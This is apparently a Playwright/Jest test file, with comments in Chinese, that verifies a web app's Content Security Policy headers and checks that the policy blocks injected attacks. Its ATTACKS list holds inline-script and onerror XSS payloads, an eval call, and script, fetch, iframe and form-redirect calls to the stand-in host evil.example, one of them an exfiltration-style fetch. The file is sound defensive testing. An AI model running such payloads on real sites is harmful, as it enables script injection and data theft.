// H5 的内容安全策略：响应头严，拦得住，放不进别站的东西。每一页没有被拦的，由 pages.test 与 journeys/every-page
// 逐页（桌面、手机标准版、长辈版）核对：客户端把每次拦截都记作报错。
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import type { Browser } from 'playwright-core';
import { launchChromium, openH5, type H5Client } from '../support/browser';
import { prepareScenery, type Scenery } from '../support/browser/scenery';
import { runningServer, type TestServer } from '../support/server';
import { pages } from './pages';

let browser: Browser;
let server: TestServer;
let scenery: Scenery;
beforeAll(async () => {
  [browser, server] = await Promise.all([launchChromium(), runningServer()]);
  scenery = await prepareScenery(server);
}, 120_000);
afterAll(() => Promise.all([browser.close(), server.close()]));

const policyOf = (headers: Headers): Map<string, string[]> =>
  new Map(
    (headers.get('content-security-policy') ?? '').split(';').map((directive) => {
      const [name = '', ...values] = directive.trim().split(/\s+/);
      return [name, values];
    }),
  );

test('每一页的响应头：只认本站的脚本，没有行内、eval、通配；不许被嵌入', async () => {
  const paths = [...new Set(pages.map((page) => page.at(scenery)))];
  for (const path of paths) {
    const { headers } = await fetch(`${server.url}${path}`, { redirect: 'manual' });
    const policy = policyOf(headers);
    const scripts = policy.get('script-src') ?? policy.get('default-src');
    expect([path, scripts]).toEqual([path, ["'self'"]]);
    expect(policy.get('default-src')).toEqual(["'self'"]);
    expect(policy.get('object-src')).toEqual(["'none'"]);
    expect(policy.get('base-uri')).toEqual(["'self'"]);
    expect(policy.get('form-action')).toEqual(["'self'"]);
    expect(policy.get('frame-ancestors')).toEqual(["'none'"]);
    for (const [name, values] of policy) {
      expect([name, values.join(' ')]).not.toEqual([name, expect.stringMatching(/\*|unsafe-eval/)]);
      if (name !== 'style-src') expect(values).not.toContain("'unsafe-inline'");
      expect(values.filter((value) => /^https?:/.test(value))).toEqual([]);
    }
    expect(headers.get('x-content-type-options')).toBe('nosniff');
    expect(headers.get('x-frame-options')).toBe('DENY');
    expect(headers.get('referrer-policy')).not.toBeNull();
  }
});

test('首页的文件里没有行内脚本、行内事件、别站的地址', async () => {
  const html = await (await fetch(server.url)).text();
  expect(html.match(/<script(?![^>]*\bsrc=)[^>]*>/g) ?? []).toEqual([]);
  expect(html.match(/\son[a-z]+\s*=/gi) ?? []).toEqual([]);
  expect(html.match(/(?:src|href)="(?:https?:)?\/\/[^"]*"/g) ?? []).toEqual([]);
});

/** 在页面里做一件该拦的事；返回拦下它的指令。 */
const ATTACKS: readonly (readonly [string, RegExp, () => void])[] = [
  [
    '行内脚本',
    /script-src/,
    () => {
      const script = document.createElement('script');
      script.textContent = 'globalThis.stolen = true';
      document.body.append(script);
    },
  ],
  [
    '行内事件',
    /script-src/,
    () => {
      document.body.insertAdjacentHTML('beforeend', '<img src="x:" onerror="stolen = true">');
    },
  ],
  [
    'eval',
    /script-src/,
    () => {
      Reflect.apply(setTimeout, globalThis, ['globalThis.stolen = true', 0]);
    },
  ],
  [
    '别站的脚本',
    /script-src/,
    () => {
      const script = document.createElement('script');
      script.src = 'https://evil.example/a.js';
      document.body.append(script);
    },
  ],
  [
    '送往别站',
    /connect-src/,
    () => {
      void fetch('https://evil.example/?stolen').catch(() => undefined);
    },
  ],
  [
    '别站的图片',
    /img-src/,
    () => {
      new Image().src = 'https://evil.example/a.png';
    },
  ],
  [
    '嵌进别站',
    /frame-src|default-src/,
    () => {
      const frame = document.createElement('iframe');
      frame.src = 'https://evil.example/';
      document.body.append(frame);
    },
  ],
  [
    '改基准地址再提交表单',
    /base-uri|form-action/,
    () => {
      document.head.insertAdjacentHTML('beforeend', '<base href="https://evil.example/">');
      const form = document.createElement('form');
      form.action = 'https://evil.example/';
      document.body.append(form);
      form.submit();
    },
  ],
];

describe('拦得住', () => {
  let client: H5Client;
  beforeAll(async () => {
    client = await openH5({ url: server.url, now: server.now, browser, viewport: 'phone' });
    await client.open('/');
    expect(client.takeErrors()).toEqual([]);
  }, 60_000);
  afterAll(() => client.close());

  test.each(ATTACKS)('%s', async (_, directive, attack) => {
    await client.page.evaluate(attack);
    await client.page.waitForTimeout(200);
    expect(client.takeErrors().join('\n')).toMatch(directive);
    expect(await client.page.evaluate(() => 'stolen' in globalThis)).toBe(false);
  });
});
